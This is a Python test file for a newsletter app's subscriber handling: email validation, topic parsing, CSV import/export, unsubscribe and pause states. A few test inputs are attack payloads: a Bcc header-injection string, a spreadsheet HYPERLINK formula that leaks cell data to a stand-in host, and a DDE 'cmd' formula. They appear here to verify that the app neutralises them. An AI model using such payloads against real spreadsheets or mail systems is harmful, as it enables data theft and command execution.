"""Subscribers: validation, CSV import/export, and their life cycle in a real database."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from digest.app import accounts
from digest.models import Subscriber, Topic
from digest.store import Store
from digest.subscribers import (
    SubscriberError,
    UnreadableCsv,
    check_input,
    normalize_email,
    parse_topic,
    parse_topics,
    read_csv,
    write_csv,
)
from digest.subscriptions import ConsentRefused
from digest.text import first_control

from .conftest import NOW, import_subscribers, set_paused, subscribe, unsubscribe


@pytest.fixture
def store(any_store: Store) -> Store:
    """Every storage test runs on SQLite and on PostgreSQL."""
    return any_store


THEMES = ["compact", "dark", "light"]


@pytest.mark.parametrize(
    ("address", "normalized"),
    [
        ("Ada@Example.ORG", "Ada@example.org"),
        ("  zoe@bücher.example.org ", "zoe@bücher.example.org"),
    ],
)
def test_addresses_are_normalised(address: str, normalized: str) -> None:
    assert normalize_email(address) == normalized


@pytest.mark.parametrize(
    ("address", "reason"),
    [
        ("", "required"),
        ("no-at-sign", "must have an @-sign"),
        ("a@b", "should have a period"),
        ("a b@example.org", "invalid characters"),
        ("x" * 250 + "@example.org", "longer than 254"),
        ("ada@example.org\r\nBcc: victim@example.org", "invalid characters"),
    ],
)
def test_bad_addresses_are_refused_saying_why(address: str, reason: str) -> None:
    with pytest.raises(SubscriberError, match=reason):
        normalize_email(address)


def test_topics_with_and_without_labels() -> None:
    assert parse_topic("Vision: diffusion OR gan") == Topic("diffusion OR gan", "Vision")
    assert parse_topic("title: diffusion") == Topic("title: diffusion")  # a field, not a label
    assert parse_topic('"a: b" c') == Topic('"a: b" c')
    assert parse_topics('RL: rlhf; "x; y" z;') == (Topic("rlhf", "RL"), Topic('"x; y" z'))


def test_a_bad_topic_is_refused_when_saved() -> None:
    with pytest.raises(SubscriberError, match="unbalanced parenthesis at column 1"):
        check_input("a@example.org", topics=["(a OR b"], themes=THEMES)
    with pytest.raises(SubscriberError, match="no such theme"):
        check_input("a@example.org", theme="neon", themes=THEMES)
    with pytest.raises(SubscriberError, match="not a timezone"):
        check_input("a@example.org", timezone="Mars/Base", themes=THEMES)


def test_names_are_one_line() -> None:
    with pytest.raises(SubscriberError, match="name: control character"):
        check_input("a@example.org", name="Ada\r\nBcc: x@example.org", themes=THEMES)
    assert check_input("a@example.org", name="  Ada   Lovelace ", themes=THEMES).name == (
        "Ada Lovelace"
    )


CSV = """email,name,topics,theme,timezone
ada@example.org,Ada,"Vision: diffusion; rlhf -survey",dark,Europe/Paris
not-an-address,Bob,,,
carol@example.org,,"(broken",,
dan@example.org,,,neon,
ADA@example.org,Ada again,,,
erin@example.org,,,,
"""


def test_csv_rows_are_checked_and_bad_ones_reported_by_line() -> None:
    rows, problems = read_csv(CSV, themes=THEMES)
    assert [(line, item.email) for line, item in rows] == [
        (2, "ada@example.org"),
        (7, "erin@example.org"),
    ]
    assert [p.line for p in problems] == [3, 4, 5, 6]
    assert "must have an @-sign" in problems[0].reason
    assert "unbalanced parenthesis" in problems[1].reason
    assert "no such theme" in problems[2].reason
    assert problems[3].reason == "ADA@example.org repeats line 2"


def test_a_csv_without_an_email_column_is_refused() -> None:
    with pytest.raises(UnreadableCsv, match="line 1: the header row has no 'email' column"):
        read_csv("name,topics\nAda,x\n", themes=THEMES)


def test_export_round_trips_with_import(store: Store) -> None:
    rows, _ = read_csv(CSV, themes=THEMES)
    import_subscribers(store, [item for _, item in rows], now=NOW)
    subscribe(store, check_input("fay@example.org", themes=THEMES), now=NOW)
    unsubscribe(store, "erin@example.org", now=NOW, channel="cli")
    set_paused(store, "ada@example.org", paused=True, now=NOW)
    exported = "".join(write_csv(accounts.with_likes(store, store.iter_subscribers())))
    again, problems = read_csv(exported, themes=THEMES)
    assert problems == []
    by_email = {s.email: s for s in store.iter_subscribers()}
    assert {item.status for _, item in again} == {"active", "paused", "unsubscribed"}
    for _, item in again:
        subscriber = by_email[item.email]
        assert (item.name, item.topics, item.theme, item.timezone, item.status) == (
            subscriber.name,
            subscriber.topics,
            subscriber.theme,
            subscriber.timezone,
            subscriber.state,
        )


def test_subscribe_update_unsubscribe_and_never_reactivate(store: Store) -> None:
    item = check_input("Ada@Example.org", name="Ada", topics=["rlhf"], themes=THEMES)
    subscriber, created = subscribe(store, item, now=NOW)
    assert created and subscriber.status == "active" and subscriber.topics == (Topic("rlhf"),)
    # Another spelling of the same mailbox updates the same subscriber.
    update = check_input("ada@EXAMPLE.org", theme="dark", themes=THEMES)
    subscriber, created = subscribe(store, update, now=NOW)
    assert not created
    assert (subscriber.name, subscriber.theme, subscriber.topics) == (
        "Ada",
        "dark",
        (Topic("rlhf"),),
    )
    left = unsubscribe(store, "ADA@example.org", now=NOW, channel="one-click")
    assert left is not None and left.status == "unsubscribed"
    assert store.count_subscribers() == {
        "pending": 0,
        "active": 0,
        "paused": 0,
        "unsubscribed": 1,
        "bounced": 0,
        "complained": 0,
    }
    with pytest.raises(ConsentRefused, match="ada@example.org unsubscribed; left unchanged"):
        subscribe(store, update, now=NOW + timedelta(days=1))
    assert store.get_subscriber("ada@example.org") == left  # every field as they left it
    assert unsubscribe(store, "nobody@example.org", now=NOW, channel="cli") is None


def test_an_import_never_resubscribes_someone_who_left(store: Store) -> None:
    subscribe(store, check_input("left@example.org", themes=THEMES), now=NOW)
    before = unsubscribe(store, "left@example.org", now=NOW, channel="link")
    csv_text = "email,name,topics,theme\nleft@example.org,Left,rlhf,dark\nnew@example.org,New,,\n"
    rows, _ = read_csv(csv_text, themes=THEMES)
    result = import_subscribers(store, [item for _, item in rows], now=NOW + timedelta(hours=1))
    assert (result.created, result.updated, result.refused) == (1, 0, ("left@example.org",))
    assert store.get_subscriber("left@example.org") == before  # name, topics, theme untouched
    assert store.get_subscriber("new@example.org").status == "active"  # type: ignore[union-attr]
    # A suppression row for someone who left keeps them out and changes nothing either.
    rows, _ = read_csv("email,name,status\nleft@example.org,X,unsubscribed\n", themes=THEMES)
    again = import_subscribers(store, [item for _, item in rows], now=NOW + timedelta(hours=2))
    assert (again.kept_unsubscribed, again.refused) == (1, ())
    assert store.get_subscriber("left@example.org") == before


def test_pause_is_a_state_that_counts_lists_and_stops_nothing_else(store: Store) -> None:
    for name in ("ada", "bob"):
        subscribe(store, check_input(f"{name}@example.org", themes=THEMES), now=NOW)
    paused = set_paused(store, "ada@example.org", paused=True, now=NOW)
    assert paused is not None and paused.state == "paused" and paused.status == "active"
    assert store.count_subscribers() == {
        "pending": 0,
        "active": 1,
        "paused": 1,
        "unsubscribed": 0,
        "bounced": 0,
        "complained": 0,
    }
    assert [s.email for s in store.iter_subscribers(state="paused")] == ["ada@example.org"]
    assert [s.email for s in store.iter_subscribers(state="active")] == ["bob@example.org"]
    # An operator's import saying "active" does not lift a reader's pause; resume does.
    rows, _ = read_csv("email,status\nada@example.org,active\n", themes=THEMES)
    import_subscribers(store, [item for _, item in rows], now=NOW)
    assert store.get_subscriber("ada@example.org").state == "paused"  # type: ignore[union-attr]
    resumed = set_paused(store, "ada@example.org", paused=False, now=NOW)
    assert resumed is not None and resumed.state == "active"
    history = store.subscriber_history(resumed.id)
    assert [(e.state, e.channel) for e in history] == [
        ("active", "cli"),
        ("paused", "cli"),
        ("active", "cli"),
    ]


def test_formula_like_cells_are_neutralised_in_the_file_and_survive_a_round_trip(
    store: Store,
) -> None:
    formula = '=HYPERLINK("http://evil.example/?q="&A2,"click")'
    item = check_input(
        "eve@example.org", name="=cmd|' /C calc'!A0", topics=[formula], themes=THEMES
    )
    subscribe(store, item, now=NOW)
    subscribe(store, check_input("-dash@example.org", name="@SUM(1)", themes=THEMES), now=NOW)
    exported = "".join(write_csv(accounts.with_likes(store, store.iter_subscribers())))
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'" + formula in cells
    again, problems = read_csv(exported, themes=THEMES)
    assert problems == []
    by_email = {i.email: i for _, i in again}
    assert by_email["eve@example.org"].topics == (Topic(formula),)
    assert by_email["eve@example.org"].name == "=cmd|' /C calc'!A0"
    assert by_email["-dash@example.org"].name == "@SUM(1)"


def test_an_imported_unsubscribed_row_stays_a_suppression(store: Store) -> None:
    rows, _ = read_csv("email,status\ngone@example.org,unsubscribed\n", themes=THEMES)
    import_subscribers(store, [item for _, item in rows], now=NOW)
    assert [s.status for s in store.iter_subscribers()] == ["unsubscribed"]


def test_listing_pages_through_many_subscribers(store: Store) -> None:
    items = [check_input(f"user{n}@example.org", themes=THEMES) for n in range(2500)]
    assert import_subscribers(store, items, now=NOW).created == 2500
    assert len(list(store.iter_subscribers(state="active", page=1000))) == 2500


def test_liked_papers_round_trip_through_the_csv(store: Store) -> None:
    text = "email,likes\nada@example.org,2611.00001 arXiv:2611.00002\nbob@example.org,soup\n"
    rows, problems = read_csv(text, themes=THEMES)
    assert [p.line for p in problems] == [3] and "likes: 'soup'" in problems[0].reason
    import_subscribers(store, [item for _, item in rows], now=NOW)
    ada = store.get_subscriber("ada@example.org")
    assert ada is not None
    marks = store.feedback_of([ada.id])[ada.id]
    assert {m.paper for m in marks} == {"arxiv:2611.00001", "arxiv:2611.00002"}
    exported = "".join(write_csv(accounts.with_likes(store, store.iter_subscribers())))
    again, _ = read_csv(exported, themes=THEMES)
    assert [item.likes for _, item in again] == [("arxiv:2611.00001", "arxiv:2611.00002")]


# -- one text gate for whatever a person types: refused with the field named, or kept whole

_TYPED = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"])
    | st.sampled_from(
        ["\x00", "\x1b", "\x07", "\x7f", "\x85", "\x9b", "\t", "\u2028", "é", ";", ":", '"']
    ),
    max_size=30,
)


@settings(max_examples=300, deadline=None)
@given(name=_TYPED, label=_TYPED)
def test_typed_text_is_refused_with_its_field_or_survives_export_and_import(
    name: str, label: str
) -> None:
    try:
        item = check_input(
            "ada@example.org", name=name, topics=[f"{label}: diffusion"], themes=THEMES
        )
    except SubscriberError as e:
        assert any(word in e.message for word in ("name", "topic", "label", "query")), e.message
        return
    assert first_control((item.name or "") + str(item.topics)) is None
    stored = Subscriber(
        id=1, email=item.email, status="active", name=item.name, topics=item.topics or ()
    )
    rows, problems = read_csv("".join(write_csv([(stored, [])])), themes=THEMES)
    assert problems == []
    assert [(r.name, r.topics) for _, r in rows] == [(item.name, item.topics)]


@pytest.mark.parametrize("bad", ["Ann\x1b]0;x\x07", "A\x00B", "Bell\x07", "Del\x7f", "C1\x9b"])
def test_a_control_character_in_a_name_or_label_is_refused(bad: str) -> None:
    with pytest.raises(SubscriberError, match="name: control character"):
        check_input("ada@example.org", name=bad, themes=THEMES)
    with pytest.raises(SubscriberError, match="topic: control character"):
        check_input("ada@example.org", topics=[f"{bad}: diffusion"], themes=THEMES)
